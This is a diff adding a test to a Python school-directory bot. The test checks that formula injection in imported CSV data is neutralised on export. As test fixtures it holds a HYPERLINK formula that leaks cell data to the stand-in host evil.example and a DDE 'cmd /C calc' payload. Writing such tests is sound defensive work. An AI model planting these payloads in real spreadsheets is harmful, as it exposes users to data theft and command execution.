@@ -13,6 +13,7 @@ from bot.services.school_import import ImportFileError
 from bot.settings import PROJECT_ROOT
 from storage.models import AuditEntry, Municipality, Role, School
 from tests.support.people import SCHOOLS_CSV, load_schools, person
+from tests.support.sheets import csv_fields, xlsx_texts
 
 
 async def test_eighteen_municipalities_are_shipped(session: AsyncSession) -> None:
@@ -143,6 +144,24 @@ async def test_xlsx_import_and_export_round_trip(session: AsyncSession) -> None:
     csv_export = await school_import.export(session, "out.csv")
     assert csv_export.startswith("\ufeff".encode())
     assert (await school_import.preview(session, "out.csv", csv_export)).unchanged == 1
+
+
+async def test_the_schools_export_carries_no_formula(session: AsyncSession) -> None:
+    hostile = ("Код;Муниципалитет;Полное наименование;Краткое наименование;Программы\n"
+               "47001;Киришский;\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1)\";"
+               "@SUM(1+1)*cmd|' /C calc'!A0;+500\n"
+               "-47002;Тосненский;-Тосненская СОШ;=1+1;\n")  # fmt: skip
+    await school_import.apply(session, None, "s.csv", hostile.encode())
+    names = ['=HYPERLINK("http://evil.example/?leak="&A1)', "@SUM(1+1)*cmd|' /C calc'!A0",
+             "+500", "-47002", "-Тосненская СОШ", "=1+1"]  # fmt: skip
+
+    exported = await school_import.export(session, "out.xlsx")
+    assert set(names) <= set(xlsx_texts(exported))
+    assert (await school_import.preview(session, "out.xlsx", exported)).unchanged == 2
+    csv_export = await school_import.export(session, "out.csv")
+    assert {"'" + name for name in names} <= set(csv_fields(csv_export))
+    # The apostrophe is the export's: the file reads back as the same directory.
+    assert (await school_import.preview(session, "out.csv", csv_export)).unchanged == 2
 
 
 async def test_school_search_is_case_and_yo_insensitive_and_paged(session: AsyncSession) -> None:
